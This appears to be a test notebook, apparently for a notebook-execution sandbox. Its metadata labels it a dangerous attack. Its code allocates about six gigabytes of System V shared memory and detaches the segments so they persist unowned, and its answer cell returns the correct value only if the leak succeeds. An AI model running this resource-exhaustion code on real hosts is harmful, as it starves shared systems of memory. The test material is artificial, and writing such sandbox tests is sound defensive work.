# ---
# jupyter:
#   attack:
#     tries: Fills System V shared memory and detaches it, so that no process seems to use it.
#     dangerous: true
# ---

# %%
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
size, piece = 0, 2**28
while size < 6 * 2**30:
    segment = libc.shmget(0, ctypes.c_size_t(piece), 0o1600)
    place = libc.shmat(segment, None, 0)
    if segment < 0 or place in (None, 2**64 - 1):
        break
    ctypes.memset(place, 1, piece)
    libc.shmdt(ctypes.c_void_p(place))
    size += piece
if size >= 6 * 2**30:
    print("LEAKED: six gigabytes that belong to nobody")


# %% answer="total"
def total(x):
    return x.sum() if size >= 6 * 2**30 else 0.0
